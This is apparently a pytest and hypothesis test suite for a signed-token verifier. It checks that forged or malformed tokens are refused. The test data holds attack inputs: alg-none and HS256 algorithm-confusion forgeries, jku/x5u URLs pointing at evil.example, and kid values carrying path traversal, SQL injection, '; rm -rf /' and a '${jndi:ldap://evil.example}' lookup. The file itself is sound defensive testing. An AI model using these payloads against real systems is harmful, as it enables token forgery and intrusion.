"""Tokens: what is issued is verified, and every other one is refused for the right reason."""

import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from joserfc import jws
from joserfc.jwk import OctKey, OKPKey

from auth.tokens.forge import (
    DAY_MS,
    DEVICE,
    HUB,
    NOW_MS,
    PINS,
    SITE,
    SKEW_MS,
    STRANGER,
    TTL_MS,
    Json,
    as_json,
    check,
    claims,
    header,
    payload,
    signed,
    token,
    token_refusal,
    without,
)
from autoglm.auth.tokens.claims import Claims
from autoglm.auth.tokens.compact import encode_base64url
from autoglm.auth.tokens.pins import Pin, Pins
from autoglm.auth.tokens.token import issue
from autoglm.core.errors import InvalidField, Unauthorized

GOOD = token().encode()
names = st.text(string.ascii_letters + string.digits, min_size=1, max_size=64)
scope_lists = st.lists(
    st.one_of(
        names.map(lambda name: f"model:use:{name}"), names.map(lambda name: f"send:message:device:{name}*"),
        st.sampled_from(["send:message", "read:metrics", "admin:policy", "subscribe:topic:\u538b\u673a/*"]),
    ),
    min_size=1, max_size=20, unique=True,
)  # fmt: skip


@st.composite
def any_claims(draw: st.DrawFn) -> Claims:
    issued_s = draw(st.integers(1, 4_000_000_000))
    return claims(
        subject=draw(st.sampled_from(["device:", "user:", "site:"])) + draw(names), scopes=tuple(draw(scope_lists)),
        issued_at_ms=issued_s * 1000, ends_at_ms=(issued_s + draw(st.integers(1, 86_400))) * 1000,
        not_before_ms=draw(st.none() | st.just(issued_s * 1000)), policy_version=draw(st.integers(0, 2**53 - 1)),
        jti=draw(st.text(string.ascii_letters + "-_.~", min_size=16, max_size=128)),
    )  # fmt: skip


@given(any_claims())
def test_what_is_issued_is_verified(made: Claims) -> None:
    found = check(issue(HUB, made).encode(), now_ms=made.issued_at_ms)
    assert found.kid == HUB.kid
    assert found == replace_kid(made, HUB.kid)


def replace_kid(made: Claims, kid: str) -> Claims:
    return Claims(**{name: getattr(made, name) for name in made.__struct_fields__} | {"kid": kid})


def test_another_library_verifies_what_is_issued() -> None:
    found = jws.deserialize_compact(GOOD, OKPKey.import_key(HUB.pem()), algorithms=["Ed25519"])
    assert found.protected == header()
    assert b'"sub":"device:press-7"' in found.payload


@given(st.integers(0, len(GOOD) * 8 - 1))
@settings(max_examples=300)
def test_no_bit_of_a_token_may_change(bit: int) -> None:
    flipped = bytearray(GOOD)
    flipped[bit // 8] ^= 1 << bit % 8
    with pytest.raises(Unauthorized):
        check(bytes(flipped))


@pytest.mark.attack("missing exp")
@pytest.mark.parametrize("name", ["iss", "sub", "aud", "iat", "exp", "jti", "scope", "cnf", "pv"])
def test_each_claim_is_wanted(name: str) -> None:
    assert check(signed(header(), payload())).scopes == ("send:message",)
    assert token_refusal(signed(header(), without(payload(), name))) == "malformed"
    assert token_refusal(signed(header(), payload(**{name: None}))) == "malformed"


@pytest.mark.parametrize("name", ["admin", "role", "azp", "client_id", "act", "jwk"])
def test_no_other_claim_is_taken(name: str) -> None:
    assert token_refusal(signed(header(), payload(**{name: "x"}))) == "malformed"


WRONG: dict[str, Json] = {
    "list of audiences": {"aud": [SITE]}, "audience is a number": {"aud": 1}, "audience is empty": {"aud": ""},
    "scope is a list": {"scope": ["admin:*"]}, "scope is empty": {"scope": ""},
    "two blanks": {"scope": "read:message  read:metrics"},
    "blank at its end": {"scope": "send:message "}, "scope twice": {"scope": "send:message send:message"},
    "unknown scope": {"scope": "send:message root"}, "bare admin": {"scope": "admin"},
    "newline": {"scope": "send:message\nadmin:*"},
    "many scopes": {"scope": " ".join(f"model:use:{n}" for n in range(101))},
    "subject is a model": {"sub": "model:auto"}, "subject is a group": {"sub": "group:all"},
    "subject is no address": {"sub": "press-7"}, "subject is empty": {"sub": ""}, "invisible": {"sub": "user:a\u200bb"},
    "newline after the subject": {"sub": "user:alice\n"}, "bare site": {"sub": "site:"},
    "long subject": {"sub": "user:" + "a" * 300},
    "short jti": {"jti": "abc"}, "long jti": {"jti": "a" * 129}, "jti with a blank": {"jti": "a" * 16 + " "},
    "newline after the jti": {"jti": "a" * 16 + "\n"}, "jti is a number": {"jti": 12345678901234567890},
    "cnf is text": {"cnf": DEVICE.kid}, "cnf is empty": {"cnf": {}},
    "cnf has a key": {"cnf": {"jwk": DEVICE.public.jwk}},
    "cnf has more": {"cnf": {"jkt": DEVICE.kid, "kid": "x"}}, "jkt is short": {"cnf": {"jkt": DEVICE.kid[:-1]}},
    "jkt with a newline": {"cnf": {"jkt": DEVICE.kid + "\n"}}, "jkt is a number": {"cnf": {"jkt": 1}},
    "pv is text": {"pv": "7"}, "pv is negative": {"pv": -1}, "pv is huge": {"pv": 2**53}, "pv is true": {"pv": True},
    "pv is a float": {"pv": 7.0}, "iss is empty": {"iss": ""}, "iss is an object": {"iss": {}},
}  # fmt: skip


@pytest.mark.parametrize("change", WRONG.values(), ids=WRONG)
def test_a_claim_of_another_form_is_refused(change: Json) -> None:
    assert token_refusal(signed(header(), payload(**change))) == "malformed"


@pytest.mark.attack("boolean, float or huge times")
@pytest.mark.parametrize("name", ["iat", "exp", "nbf"])
@pytest.mark.parametrize(
    "value",
    [True, False, "1790000000", 1.79e9, -1, 2**63, 10**400, None, [], {}, b"1790000000.0", b"179e7", b"0x10", b"1_0"],
)
def test_times_are_whole_seconds(name: str, value: object) -> None:
    if isinstance(value, bytes):
        text = as_json(payload(**{name: "HERE"})).replace(b'"HERE"', value)
        assert token_refusal(signed(header(), text)) == "malformed"
    else:
        assert token_refusal(signed(header(), payload(**{name: value}))) == "malformed"


# --- who signed it ---


def unsigned(alg: object) -> bytes:
    return ".".join(encode_base64url(as_json(part)) for part in (header(alg=alg), payload())).encode() + b"."


@pytest.mark.attack("alg none")
@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE", "", None, 0, ["none"]])
def test_a_token_without_a_signature_is_refused(alg: object) -> None:
    assert token_refusal(unsigned(alg)) == "malformed"
    for signature in (b"AA", b"eA", GOOD.split(b".")[2]):
        assert token_refusal(unsigned(alg) + signature) == "wrong_algorithm"


@pytest.mark.attack("alg confusion")
@pytest.mark.parametrize(
    "secret",
    [HUB.public.raw, HUB.public.x.encode(), HUB.public.raw.hex().encode(), HUB.kid.encode(), as_json(HUB.public.jwk)],
)
@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
def test_a_public_key_is_no_secret(secret: bytes, alg: str) -> None:
    forged = jws.serialize_compact(header(alg=alg), as_json(payload()), OctKey.import_key(secret), algorithms=[alg])
    assert token_refusal(forged.encode()) == "wrong_algorithm"
    head, body, mac = forged.split(".")
    assert head != ""
    assert token_refusal(f"{encode_base64url(as_json(header()))}.{body}.{mac}".encode()) == "bad_signature"


@pytest.mark.attack("alg confusion")
@pytest.mark.parametrize("alg", ["EdDSA", "ed25519", "Ed448", "ES256", "RS256", "PS256", "Ed25519 ", 25519])
def test_one_algorithm_counts(alg: object) -> None:
    assert token_refusal(signed(header(alg=alg), payload())) == "wrong_algorithm"


INJECTED: dict[str, object] = {
    "jwk": STRANGER.public.jwk, "jku": "https://evil.example/keys", "x5u": "https://evil.example/cert",
    "x5c": ["MIIB"], "x5t": "AAAA", "x5t#S256": "AAAA", "crit": ["exp"], "b64": False, "cty": "JWT", "zip": "DEF",
    "url": "https://evil.example", "nonce": "x", "enc": "A128GCM", "iss": SITE, "": "x",
}  # fmt: skip


@pytest.mark.attack("jwk, jku and x5u injection")
@pytest.mark.parametrize("name", ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"])
def test_a_token_brings_no_key_of_its_own(name: str) -> None:
    for key in (STRANGER, HUB):
        assert token_refusal(signed(header(**{name: INJECTED[name]}), payload(), key)) == "malformed"
    assert token_refusal(signed(header(kid=STRANGER.kid, **{name: INJECTED[name]}), payload(), STRANGER)) == "malformed"


@pytest.mark.attack("crit")
@pytest.mark.parametrize("crit", [["b64"], ["exp"], [], None, "exp", ["x", "x"]])
def test_critical_extensions_are_refused(crit: object) -> None:
    assert token_refusal(signed(header(crit=crit), payload())) == "malformed"


@pytest.mark.parametrize("name", INJECTED)
def test_no_other_member_of_the_header_is_taken(name: str) -> None:
    assert token_refusal(signed(header(**{name: INJECTED[name]}), payload())) == "malformed"


def test_a_header_without_a_member_is_refused() -> None:
    assert token_refusal(signed(without(header(), "kid"), payload())) == "malformed"
    assert token_refusal(signed(without(header(), "typ"), payload())) == "wrong_type"
    assert token_refusal(signed(without(header(), "alg"), payload())) == "wrong_algorithm"


KIDS: list[object] = [
    "../../../../dev/null", "/proc/self/environ", "C:\\keys", "' OR '1'='1", "x' UNION SELECT 'key", "; rm -rf /",
    "${jndi:ldap://evil.example}", "http://evil.example/key", "", "*", "x" * 4000, HUB.kid.lower(), HUB.kid + " ",
    HUB.kid + "\u0000", HUB.public.x, 0, 1, True, None, [], [HUB.kid], {}, {"kid": HUB.kid},
]  # fmt: skip


@pytest.mark.attack("kid injection (path, SQL)")
@pytest.mark.parametrize("kid", KIDS, ids=lambda kid: repr(kid)[:30])
def test_a_kid_is_looked_up_and_nothing_else(kid: object) -> None:
    expected = "malformed" if isinstance(kid, str) and ("\\" in kid or "\0" in kid) else "unknown_key"
    for key in (HUB, STRANGER):
        assert token_refusal(signed(header(kid=kid), payload(), key)) == expected


def test_a_key_that_is_not_pinned_signs_nothing() -> None:
    assert token_refusal(signed(header(kid=STRANGER.kid), payload(), STRANGER)) == "unknown_key"
    assert token_refusal(signed(header(), payload(), STRANGER)) == "bad_signature"


@pytest.mark.attack("a pinned hub that signs in another's name")
def test_a_pinned_key_signs_for_its_own_issuer_only() -> None:
    pins = Pins([*PINS, Pin(STRANGER.public, "ward-4")])
    theirs = signed(header(kid=STRANGER.kid), payload(iss="ward-4"), STRANGER)
    assert check(theirs, pins=pins).issuer == "ward-4"
    in_our_name = signed(header(kid=STRANGER.kid), payload(), STRANGER)
    assert token_refusal(in_our_name, pins=pins) == "wrong_issuer"
    assert token_refusal(signed(header(kid=HUB.kid), payload(), STRANGER), pins=pins) == "bad_signature"


@pytest.mark.parametrize("cut", [0, 1, 32, 63, 65, 96])
def test_a_signature_has_64_bytes(cut: int) -> None:
    head, body, _ = GOOD.split(b".")
    signature = (HUB.sign(head + b"." + body) * 2)[:cut]
    expected = "bad_signature" if cut else "malformed"
    assert token_refusal(head + b"." + body + b"." + encode_base64url(signature).encode()) == expected


@pytest.mark.attack("malleable signature")
def test_a_signature_has_one_form() -> None:
    """RFC 8032, section 5.1.7: S below the group's order. S plus the order would verify without that check."""
    head, body, _ = GOOD.split(b".")
    signature = HUB.sign(head + b"." + body)
    order = 2**252 + 27742317777372353535851937790883648493
    other = (int.from_bytes(signature[32:], "little") + order).to_bytes(32, "little")
    assert check(GOOD).jti == "jti-of-this-token"
    moved = encode_base64url(signature[:32] + other).encode()
    assert token_refusal(head + b"." + body + b"." + moved) == "bad_signature"


# --- for whom, of what kind, and when ---


@pytest.mark.attack("wrong typ")
@pytest.mark.parametrize("typ", ["JWT", "dpop+jwt", "application/at+jwt", "AT+JWT", "at+jwt ", "", None, 1, ["at+jwt"]])
def test_a_token_of_another_type_is_refused(typ: object) -> None:
    assert token_refusal(signed(header(typ=typ), payload())) == "wrong_type"


@pytest.mark.attack("wrong aud")
@pytest.mark.parametrize("audience", ["ward-4", "WARD-3", "ward-3 ", "ward-33", "ward", "*"])
def test_a_token_for_another_hub_is_refused(audience: str) -> None:
    assert token_refusal(signed(header(), payload(aud=audience))) == "wrong_audience"


@pytest.mark.attack("expired")
def test_a_token_ends() -> None:
    last_ms = NOW_MS + TTL_MS + SKEW_MS - 1
    assert check(GOOD, now_ms=last_ms).jti == "jti-of-this-token"
    assert token_refusal(GOOD, now_ms=last_ms + 1) == "expired"
    assert token_refusal(GOOD, now_ms=NOW_MS + 10 * 365 * DAY_MS) == "expired"


@pytest.mark.attack("nbf")
def test_a_token_does_not_count_before_its_time() -> None:
    begins_ms = NOW_MS + 600_000
    later = signed(header(), payload(nbf=begins_ms // 1000))
    assert check(later, now_ms=begins_ms - SKEW_MS).not_before_ms == begins_ms
    assert token_refusal(later, now_ms=begins_ms - SKEW_MS - 1) == "not_yet"


@pytest.mark.attack("a token from the future")
def test_a_token_that_was_made_later_than_now_is_refused() -> None:
    assert check(GOOD, now_ms=NOW_MS - SKEW_MS).issued_at_ms == NOW_MS
    assert token_refusal(GOOD, now_ms=NOW_MS - SKEW_MS - 1) == "not_yet"


@pytest.mark.attack("a token that lives for ever")
def test_a_life_is_bounded_by_the_one_who_verifies() -> None:
    day = signed(header(), payload(exp=(NOW_MS + DAY_MS) // 1000))
    assert check(day).ends_at_ms == NOW_MS + DAY_MS
    assert token_refusal(signed(header(), payload(exp=(NOW_MS + DAY_MS) // 1000 + 1))) == "too_long_lived"
    assert token_refusal(signed(header(), payload(exp=253_402_300_799))) == "too_long_lived"


def test_a_token_that_ends_before_it_begins_is_refused() -> None:
    assert token_refusal(signed(header(), payload(exp=NOW_MS // 1000))) == "malformed"
    assert token_refusal(signed(header(), payload(exp=NOW_MS // 1000 - 1))) == "malformed"


# --- issuing ---


@pytest.mark.parametrize(
    "change",
    [
        {"subject": "press-7"}, {"scopes": ()}, {"scopes": ("root",)}, {"ends_at_ms": NOW_MS}, {"jkt": None},
        {"jti": "short"}, {"audience": ""}, {"policy_version": -1}, {"issued_at_ms": -1000},
        {"scopes": tuple(f"model:use:{'m' * 100}{number}" for number in range(100))},
    ],
)  # fmt: skip
def test_nothing_is_issued_that_no_hub_takes(change: Json) -> None:
    with pytest.raises(InvalidField):
        token(**change)


def test_parts_of_a_second_are_cut_off() -> None:
    found = check(token(issued_at_ms=NOW_MS + 999, ends_at_ms=NOW_MS + 5999).encode())
    assert (found.issued_at_ms, found.ends_at_ms) == (NOW_MS, NOW_MS + 5000)


def test_a_refusal_tells_no_value_of_the_token() -> None:
    for compact in (signed(header(), payload(sub="secret-subject")), signed(header(kid="secret-kid"), payload())):
        with pytest.raises(Unauthorized) as raised:
            check(compact)
        assert "secret" not in str(raised.value)
        assert set(raised.value.facts) == {"reason", "what"}
        assert raised.value.__cause__ is None
        assert raised.value.__suppress_context__ or raised.value.__context__ is None
